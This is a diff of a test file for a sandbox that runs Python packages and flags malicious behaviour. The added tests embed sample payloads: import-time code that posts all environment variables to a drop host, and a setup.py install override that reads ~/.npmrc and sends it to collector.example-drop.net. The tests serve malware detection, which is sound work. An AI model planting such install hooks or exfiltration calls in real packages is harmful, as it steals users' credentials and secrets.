@@ -205,8 +205,8 @@ def save(path, data):
 `
     const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('plainpkg', '1.0.0', { 'setup.py': "from setuptools import setup\nsetup(name='plainpkg', version='1.0.0', packages=['plainpkg'])\n", 'plainpkg/__init__.py': library }), DEFAULT_ARCHIVE_LIMITS, { filename: 'plainpkg-1.0.0.tar.gz' })
     const py = await runSandbox(pypiEcosystem, sdist, ONE)
-    expect(py.steps.map((s) => s.label)).toEqual(['setup.py', 'import plainpkg', 'call plainpkg'])
-    expect(py.runs[0]!.steps.map((s) => s.exitCode)).toEqual([0, 0, 0])
+    expect(py.steps.map((s) => s.label)).toEqual(['setup.py egg_info', 'setup.py install', 'import plainpkg', 'call plainpkg'])
+    expect(py.runs[0]!.steps.map((s) => s.exitCode)).toEqual([0, 0, 0, 0])
     // the calls ran: the request reached the sinkhole
     expect(py.runs[0]!.network.some((e) => e.kind === 'http' && e.host.startsWith('api.example-service.com'))).toBe(true)
     expect(dynamicFindings(py).signals).toEqual([])
@@ -277,5 +277,49 @@ class Wallet:
     const { signals } = dynamicFindings(run)
     expect(signals.map((s) => s.rule).sort()).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-persistence'])
     expect(signals.find((s) => s.rule === 'sandbox-honeytoken-egress')!.message).toMatch(/^call hexwallet: sent the planted .* to POST https:\/\/k3y-drop\.ngrok-free\.app\/p/)
+  })
+
+  it('stands in for dependencies the sandbox lacks, so a payload behind their imports still runs at load and when called', { timeout: 60_000 }, async () => {
+    const core = `import os, json, urllib.request
+import telegram_for_gatehouse_tests as tg
+from colorama_for_gatehouse_tests import Fore, init
+init(autoreset=True)
+class Bot(tg.Client):
+    pass
+urllib.request.urlopen('https://load-drop.example-sink.net/l', data=json.dumps(dict(os.environ)).encode())
+def start(token):
+    urllib.request.urlopen('https://k3y-drop.ngrok-free.app/c', data=token.encode())
+`
+    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('botpkg', '1.0.0', { 'botpkg/__init__.py': core }), DEFAULT_ARCHIVE_LIMITS, { filename: 'botpkg-1.0.0.tar.gz' })
+    const run = await runSandbox(pypiEcosystem, sdist, ONE)
+    expect(run.runs[0]!.steps.map((s) => [s.label, s.exitCode])).toEqual([
+      ['import botpkg', 0],
+      ['call botpkg', 0],
+    ])
+    const hosts = run.runs[0]!.network.flatMap((e) => (e.kind === 'http' ? [e.host] : []))
+    expect(hosts).toEqual(expect.arrayContaining(['load-drop.example-sink.net', 'k3y-drop.ngrok-free.app']))
+    expect(dynamicFindings(run).signals.map((s) => s.rule).sort()).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-network', 'sandbox-system-info-egress'])
+  })
+
+  it('runs the install command a pip install runs, where a cmdclass override waits; setuptools itself builds nothing', { timeout: 60_000 }, async () => {
+    // egg_info alone (pip's metadata step) never reaches an overridden install; a wheel build does
+    const setup = `import os, urllib.request
+from setuptools import setup
+from setuptools.command.install import install
+class PostInstall(install):
+    def run(self):
+        token = open(os.path.expanduser('~/.npmrc')).read()
+        urllib.request.urlopen('https://collector.example-drop.net/i', data=token.encode())
+        install.run(self)
+setup(name='postpkg', version='1.0.0', packages=['postpkg'], cmdclass={'install': PostInstall})
+`
+    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('postpkg', '1.0.0', { 'setup.py': setup, 'postpkg/__init__.py': '' }), DEFAULT_ARCHIVE_LIMITS, { filename: 'postpkg-1.0.0.tar.gz' })
+    const run = await runSandbox(pypiEcosystem, sdist, ONE)
+    const install = run.runs[0]!.steps.find((s) => s.label === 'setup.py install')!
+    expect(install.exitCode).toBe(0)
+    const sent = run.runs[0]!.network.filter((e) => e.kind === 'http' && e.host.startsWith('collector.example-drop.net'))
+    expect(sent).toHaveLength(1)
+    expect(sent[0]!.t).toBeGreaterThanOrEqual(install.at)
+    expect(dynamicFindings(run).signals.find((s) => s.rule === 'sandbox-honeytoken-egress')?.message).toMatch(/sent the planted .* to POST https:\/\/collector\.example-drop\.net\/i/)
   })
 })
